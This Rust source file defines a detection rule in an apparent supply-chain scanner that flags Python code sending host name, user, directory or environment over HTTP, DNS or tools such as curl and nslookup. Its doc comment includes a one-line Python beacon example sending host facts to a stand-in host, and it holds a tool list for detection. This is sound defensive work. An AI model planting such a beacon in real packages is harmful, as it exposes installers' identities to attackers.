//! # HS114 host-beacon
//!
//! ## What it does
//!
//! Flags host facts (host name, user name, working directory, the whole
//! environment) sent over the network, as HTTP data, in a URL, in a DNS name
//! or through `ping`/`nslookup`/`curl`. High when it happens at install,
//! import or start-up time, or when the whole environment (and so every
//! secret in it) is sent; medium inside functions otherwise.
//!
//! ## Why it matters
//!
//! Dependency-confusion probes and first-stage beacons announce each victim
//! this way: `setup.py` or `__init__.py` packs `hostname;user;cwd` into a
//! request or a DNS look-up so the attacker learns who installed the package
//! (VMConnect, Slow Pisces' loader, InvisibleFerret, hundreds of
//! "research" packages). A library has no reason to report who imported it.
//!
//! ## Example
//!
//! ```python
//! import getpass, socket, requests
//! requests.get("https://example.invalid/c", params={"h": socket.gethostname(), "u": getpass.getuser()})
//! ```
//!
//! ## False positives
//!
//! Telemetry and crash reporters that send the host name from inside
//! functions (reported at medium); licence checks at import time.
//!
//! ## References
//!
//! - THREATS.md H29, H7; MITRE ATT&CK T1082, T1033, T1041
//! - Alex Birsan, "Dependency Confusion" (2021)

use crate::python::{Module, Taint, fold, names, taint::taint};
use crate::report::{Context, Severity};
use crate::rules::{Checker, Meta, Rule};

pub struct HostBeacon;

static META: Meta = crate::rule_meta!("HS114", "host-beacon", High, High);

/// Command-line tools that carry data out in a host name or a URL.
const TOOLS: &[&str] = &[
    "ping",
    "nslookup",
    "dig ",
    "host ",
    "curl",
    "wget",
    "powershell",
];

impl Rule for HostBeacon {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        for call in &m.calls {
            let Some(q) = call.qname.as_deref() else {
                continue;
            };
            let channel = if names::is_network(q) {
                q.trim_end_matches("()").to_string()
            } else if names::is_spawn(q) {
                let Some(cmd) = call
                    .arg(0)
                    .map(|a| fold::template(m, a).to_ascii_lowercase())
                else {
                    continue;
                };
                match TOOLS
                    .iter()
                    .find(|t| cmd.trim_start().starts_with(*t) || cmd.contains(&format!(" {t}")))
                {
                    Some(t) => format!("`{}`", t.trim()),
                    None => continue,
                }
            } else {
                continue;
            };
            // A spawned command carries data out in its command line; its
            // `env=` is the child's own environment, not something sent.
            let mut sent = call.args.clone();
            if names::is_network(q) {
                // What goes out: the URL and the body, not `timeout=` or an
                // SSL `context=`.
                sent.extend(
                    call.kwargs
                        .iter()
                        .filter(|(k, _)| {
                            matches!(
                                *k,
                                "url"
                                    | "data"
                                    | "json"
                                    | "params"
                                    | "files"
                                    | "body"
                                    | "fields"
                                    | "content"
                            )
                        })
                        .map(|(_, v)| *v),
                );
            } else {
                sent.truncate(1);
            }
            let taints: Vec<_> = sent.iter().map(|a| taint(m, *a, call.scope)).collect();
            if !taints.iter().any(|t| t.has(Taint::HostInfo)) {
                continue;
            }
            let whole_env = taints.iter().any(|t| t.has(Taint::Environment));
            let dns_exfil = is_dns_lookup(q)
                && call
                    .arg(0)
                    .is_some_and(|a| under_foreign_zone(&fold::template(m, a)));
            // Resolving the machine's own name (or `<name>.local`) sends
            // nothing to anyone.
            if is_dns_lookup(q) && !dns_exfil {
                continue;
            }
            let context = m.context(call.scope);
            let severity = match context {
                Context::Install | Context::Import | Context::Startup => Severity::High,
                // Every secret of the process, sent out: never a telemetry ping.
                _ if whole_env => Severity::High,
                // Host facts spelled into a name under someone's zone: its
                // name server logs them. Nothing resolves such a name to use
                // the answer.
                _ if dns_exfil => Severity::High,
                _ => Severity::Medium,
            };
            let when = match context {
                Context::Install => " at install time",
                Context::Import => " at import time",
                Context::Startup => " at interpreter start",
                _ => "",
            };
            checker.report(
                &META,
                call.node,
                severity,
                context,
                if whole_env {
                    format!("the whole process environment is sent out through {channel}{when}")
                } else if dns_exfil {
                    format!("host identity is spelled into a DNS name under a fixed zone and looked up with {channel}{when} (DNS exfiltration)")
                } else {
                    format!("host identity (host name, user, directory or environment) is sent out through {channel}{when}")
                },
            );
        }
    }
}

fn is_dns_lookup(q: &str) -> bool {
    matches!(
        q.trim_end_matches("()"),
        "socket.gethostbyname"
            | "socket.gethostbyname_ex"
            | "socket.getaddrinfo"
            | "dns.resolver.resolve"
            | "dns.resolver.query"
            | "dns.resolver.Resolver().resolve"
            | "dns.resolver.Resolver().query"
    )
}

/// Whether a looked-up name (a template, `{}` for what is computed) is
/// something computed placed under a fixed public zone:
/// `{}.b32.example.net`, not `{}` (the host's own name) nor `{}.local`.
fn under_foreign_zone(name: &str) -> bool {
    let Some(at) = name.rfind("{}") else {
        return false;
    };
    let zone = name[at + 2..].trim_matches(|c| c == '.' || c == '"' || c == '\'');
    let labels: Vec<&str> = zone.split('.').filter(|l| !l.is_empty()).collect();
    labels.len() >= 2
        && labels
            .iter()
            .all(|l| l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
        && !matches!(
            labels.last().copied().unwrap_or(""),
            "local" | "lan" | "internal" | "localdomain" | "home" | "arpa" | "localhost"
        )
}

#[cfg(test)]
mod tests {
    use super::under_foreign_zone;

    #[test]
    fn names_under_a_public_zone_carry_data() {
        assert!(under_foreign_zone("{}.b32.example.net"));
        assert!(under_foreign_zone("{}.{}.oob.example.com"));
        assert!(!under_foreign_zone("{}"));
        assert!(!under_foreign_zone("{}.local"));
        assert!(!under_foreign_zone("{}.corp.internal"));
        assert!(!under_foreign_zone("pypi.org"));
    }
}
